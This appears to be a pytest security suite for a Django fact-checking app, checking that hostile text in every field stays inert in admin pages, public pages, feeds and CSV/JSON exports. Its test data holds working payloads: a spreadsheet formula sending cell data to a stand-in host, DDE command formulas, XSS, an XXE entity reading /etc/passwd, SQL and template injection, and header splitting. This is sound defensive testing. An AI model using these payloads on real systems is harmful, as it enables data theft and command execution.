"""Hostile texts in every field a person or a program can fill: kept as they came, shown as text, or refused."""

from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser
from typing import Any
from xml.etree import ElementTree

import pytest
from django.contrib import admin
from django.test import Client
from django.urls import NoReverseMatch, reverse

from claims.models import Alias, Article, Claim, Complaint, Newsroom, Publication, Rating
from claims.operations import aliasing, complaining, publishing
from claims.reports import exports
from claims.roles import Role
from tests import make
from tests.api.client import Program, program_of

pytestmark = pytest.mark.django_db

HOSTILE = {  # each begins as a formula does, and none holds so many elements that it would be read as a page
    "scripts": """=HYPERLINK("http://pwn.example/?"&A1,"x")"""
    """<script>pwn(1)</script>"><img src=x onerror=pwn(1)> ' onmouseover='pwn(1)' x='""",
    "the ends of elements": "-2+3+cmd|' /C calc'!A0</title></textarea></style><svg onload=pwn(1)><pwn>",
    "the end of a script": "+1+cmd|' /C calc'!A0</script><script>pwn(1)</script><!--<script>",
    "links, XML and SQL": "@SUM(1+1)*cmd|' /C calc'!A0 <a href=javascript:pwn(1)>x</a>[x](javascript:pwn(1))"
    '<!DOCTYPE pwn [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;]]><pwn xmlns="x"/>'
    "'; DROP TABLE claims_claim; -- ' OR '1'='1",
    "templates and headers": "＝1+1{{ 982007568|add:1 }}{% load pwn %}${31337*31337}#{31337*31337}<%= 31337*31337 %>"
    "%(pwn)s%s%n{0.__class__}%0d%0aX-Pwn: 1\r\nX-Pwn: 1\r\nSet-Cookie: pwn=1\r\n\r\n<pwn>",
    "what cannot be seen": "\u202egnp.exe \u2066x\u2069\u200f\u200b\u200d\u2060\ufeff\u00ad\x08\x1b[31mred\x7f\x85"
    "\u2028\u2029\uffff\ufffee" + "\u0301" * 150 + "👩‍👩‍👧‍👦🏳️‍🌈" * 5,
}
REFUSED = {"NUL": "a\\u0000b", "half a character": "a\\ud800b"}  # as they stand in JSON


class Elements(HTMLParser):
    """Notes what a browser would run, or what markup a text would have smuggled in."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.data: list[str] = []  # what stands in JSON-LD
        self.script: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        self.script = given.get("type", "code") if tag == "script" else None
        if tag == "pwn" or any(name.startswith("on") for name in given):
            self.found.append(self.get_starttag_text() or tag)
        for name in ("href", "src", "action", "formaction", "data"):
            if given.get(name, "").strip().lower().startswith(("javascript:", "data:text", "vbscript:")):
                self.found.append(self.get_starttag_text() or tag)

    def handle_endtag(self, tag: str) -> None:
        self.script = None

    def handle_data(self, data: str) -> None:
        if self.script == "application/ld+json":
            self.data.append(data)
        elif self.script == "code" and data.strip():
            self.found.append(data)


def looked_at(answer: Any) -> Elements:
    """The page, in which nothing of a text became markup, a header or a computed value."""
    assert answer.status_code < 500
    assert not {"X-Pwn", "Set-Cookie"} & {name for name, value in answer.headers.items() if "pwn" in value.lower()}
    page = b"".join(answer.streaming_content) if answer.streaming else answer.content
    assert b"982007569" not in page, "a template was run"
    elements = Elements()
    elements.feed(page.decode())
    elements.close()
    assert elements.found == [], answer.request["PATH_INFO"]
    return elements


def chief(room: Newsroom) -> Program:
    return program_of(make.member(room, *Role.values), room)


def published_with(hostile: str) -> tuple[Publication, Complaint]:
    """A published check of which every text that a person or a program gives is this one."""
    room = make.newsroom(complaints_public=True)
    Newsroom.objects.filter(pk=room.pk).update(name=hostile[:100])
    Rating.objects.filter(newsroom=room, slug="false").update(labels={"en": hostile, "de": hostile})
    desk, reviewer, editor = chief(room), make.reviewer(room), make.editor(room)
    line = re.sub(r"[\x00-\x1f]", " ", hostile)[:150]  # what is one line takes no other
    fields = {"title": line, "publisher": line, "external_id": line}
    read = desk.post("articles/", {"text": f"{make.ARTICLE} {hostile}", "language": "de", **fields})
    assert read.status_code in (200, 202), read.content

    claim = make.claim_in_review(
        room,
        text=f"{hostile} Eulenburg planted 1,250 trees in March 2024.",
        claimant=line,
        external_id=line,
        drafts=[make.draft(title=hostile, publisher=hostile, text=f"{make.SOURCE} {hostile}")],
    )
    at = f"claims/{claim.pk}/"
    passage = claim.evidence.first()
    assert passage is not None
    by = program_of(reviewer, room)
    body = {"stance": "disagrees", "note": hostile, "answered": hostile}
    assert by.put(f"{at}evidence/{passage.pk}/judgement/", body).status_code == 200
    assert by.post(at + "comments/", {"text": hostile}).status_code == 201
    assert by.post(at + "tasks/", {"text": hostile}).status_code == 201
    assert by.post(at + "replies/", {"waived_reason": hostile}).status_code == 201
    assert by.post(at + "reviews/", {"rating": "false", "reasons": hostile}).status_code == 201
    proposed = by.put(at + "verdict/", {"rating": "false", "headline": hostile, "reasons": hostile})
    assert proposed.status_code == 200, proposed.content
    approver = program_of(editor, room)
    approved = approver.post(at + "verdict/approval/", {"content_hash": proposed.json()["content_hash"]})
    assert approved.status_code == 201
    assert approver.post(at + "publication/").status_code == 201
    publication = Publication.objects.get(claim=claim)
    publishing.correct(
        publication, by=editor, kind="correction", notice=hostile, field="reasons", after=f"{hostile} Again."
    )
    complaint = complaining.receive(publication, by=None, text=hostile, door="page", complainant=line, contact=line)
    return Publication.objects.get(pk=publication.pk), complaint


@pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_text_is_text_everywhere(hostile: str) -> None:
    publication, complaint = published_with(hostile)
    _desk_shows_text(publication, complaint)
    _public_reads_text(publication, complaint)
    _feeds_hold_text(publication)
    _exports_hold_text(publication)


def _desk_shows_text(publication: Publication, complaint: Complaint) -> None:
    room = publication.newsroom
    client = Client()
    client.force_login(make.member(room, *Role.values))
    details = [
        ("claims_claim_change", publication.claim_id),
        ("claims_claim_earlier", publication.claim_id),
        ("claims_publication_change", publication.pk),
        ("claims_complaint_change", complaint.pk),
        ("claims_article_change", Article.objects.get(newsroom=room).pk),
        ("claims_document_change", publication.claim.evidence.all()[0].document_id),
    ]
    for name, pk in details:
        page = client.get(reverse(f"admin:{name}", args=[pk]))
        assert page.status_code == 200, name
        looked_at(page)
    for model in admin.site._registry:
        try:
            address = reverse(f"admin:claims_{model._meta.model_name}_changelist")
        except NoReverseMatch:
            continue
        looked_at(client.get(address))
    for name in ("index", "desk_mine", "desk_stuck", "desk_team", "desk_keys", "desk_balance"):
        looked_at(client.get(reverse(f"admin:{name}")))


def _public_reads_text(publication: Publication, complaint: Complaint) -> None:
    client, content = Client(), publication.content
    at = publication.get_absolute_url()
    page = client.get(at)
    [data] = looked_at(page).data
    told = json.loads(data)
    assert (told["claimReviewed"], told["itemReviewed"]["author"]["name"]) == (content["claim"], content["claimant"])
    assert client.get(f"{at}claimreview.json").json() == told
    others = ["/checks/", "/checks/corrections/", f"{at}report/", reverse("public:complaint", args=[complaint.token])]
    for address in [*others, f"/checks/?newsroom={publication.newsroom.slug}"]:
        looked_at(client.get(address))


def _feeds_hold_text(publication: Publication) -> None:
    client = Client()
    for name in ("feed", "corrections"):
        for form in ("rss", "atom"):
            tree = ElementTree.fromstring(client.get(f"/checks/{name}.{form}").content)  # noqa: S314  our own
            assert not [one.tag for one in tree.iter() if one.tag.rpartition("}")[2] in ("pwn", "script")]
        items = client.get(f"/checks/{name}.json").json()["items"]
        assert publication.content["headline"] in items[0]["title"]
    ElementTree.fromstring(client.get("/sitemap.xml").content)  # noqa: S314  our own


def _exports_hold_text(publication: Publication) -> None:
    desk = chief(publication.newsroom)
    shown = desk.get(f"claims/{publication.claim_id}/")
    assert shown["Content-Type"].startswith("application/json")
    assert shown["X-Content-Type-Options"] == "nosniff"
    assert shown.json()["text"] == publication.claim.text
    for kind in exports.KINDS:
        lines = b"".join(desk.get(f"exports/{kind}/?as=jsonl").streaming_content).splitlines()
        assert [json.loads(line) for line in lines if line]
        table = b"".join(desk.get(f"exports/{kind}/?as=csv").streaming_content).decode("utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(table, newline="")))
        assert rows
        for row in rows:
            assert None not in row
            for name, value in row.items():
                assert not value.startswith(("=", "+", "@", "\t", "\r", "\n", "＝")), (kind, name)
                assert not value.startswith("-") or value[1:].replace(".", "").isdigit(), (kind, name)


@pytest.mark.parametrize("escaped", REFUSED.values(), ids=REFUSED.keys())
def test_what_no_text_may_hold_is_refused_in_every_field(escaped: str) -> None:
    claim = make.claim_in_review()
    passage = claim.evidence.first()
    assert passage is not None
    at = f"claims/{claim.pk}/"
    fields = [
        *(("POST", "articles/", name) for name in ("text", "title", "url", "publisher", "external_id", "language")),
        *(("POST", "claims/", name) for name in ("text", "claimant", "appearance", "external_id", "language")),
        ("POST", at + "reviews/", "reasons"),
        ("PUT", at + "verdict/", "headline"),
        ("PUT", at + "verdict/", "reasons"),
        ("POST", at + "comments/", "text"),
        ("POST", at + "tasks/", "text"),
        ("POST", at + "dismissal/", "reason"),
        ("POST", at + "reopenings/", "reason"),
        ("POST", at + "replies/", "waived_reason"),
        ("POST", at + "replies/", "party"),
        ("POST", at + "recusals/", "reason"),
        ("PUT", f"{at}evidence/{passage.pk}/judgement/", "note"),
        ("PUT", f"{at}evidence/{passage.pk}/judgement/", "answered"),
        ("PUT", f"{at}evidence/{passage.pk}/protection/", "reason"),
        ("POST", at + "additions/", "url"),
        ("POST", at + "additions/", "note"),
        ("POST", "complaints/", "text"),
        ("POST", "complaints/", "complainant"),
        ("POST", "complaints/", "contact"),
        ("POST", "checks/match/", "text"),
        ("POST", "interests/", "words"),
        ("POST", "keys/", "label"),
        ("POST", "webhooks/", "url"),
    ]
    desk = chief(claim.newsroom)
    before = claim.newsroom.ledger.count() if hasattr(claim.newsroom, "ledger") else None
    for method, path, name in fields:
        answer = desk.call(method, path, f'{{"{name}": "{escaped}"}}')

        assert answer.status_code == 400, (path, name, answer.content)
        assert name in [one["attr"] for one in answer.json()["errors"]], (path, name, answer.content)
    assert before is None or claim.newsroom.ledger.count() == before


def test_a_search_for_anything_hostile_finds_nothing_and_breaks_nothing() -> None:
    claim = make.claim_submitted()
    desk = chief(claim.newsroom)
    client = Client()
    client.force_login(make.member(claim.newsroom, *Role.values))
    for hostile in [*HOSTILE.values(), "\x00", "%00", "\\", "a & | ! ( :* <->"]:
        assert desk.client.get("/api/v1/claims/", {"q": hostile}, headers=desk.headers).status_code in (200, 400)
        looked_at(client.get(reverse("admin:claims_claim_changelist"), {"q": hostile}))
        looked_at(client.get("/checks/", {"newsroom": hostile, "language": hostile, "page": hostile}))
    assert Claim.objects.filter(pk=claim.pk).exists()


def test_a_name_that_reads_as_a_formula_leaves_as_text_and_comes_back_as_it_was() -> None:
    room = make.newsroom()
    for number, written in enumerate(("=1+1", "@SUM(1)", "'s-Hertogenbosch", "+49", "'=quoted")):
        Alias.objects.create(
            newsroom=room, written=written, language="de", canonical=f"{written}{number}", kind=Alias.Kind.PLACE
        )
    table = aliasing.as_table(Alias.objects.filter(newsroom=room).order_by("pk"))

    for row in list(csv.reader(io.StringIO(table)))[1:]:
        assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@"))]
    read = aliasing.read_table(table)
    assert read.errors == []
    assert [row["written"] for row in read.rows] == ["=1+1", "@SUM(1)", "'s-Hertogenbosch", "+49", "'=quoted"]
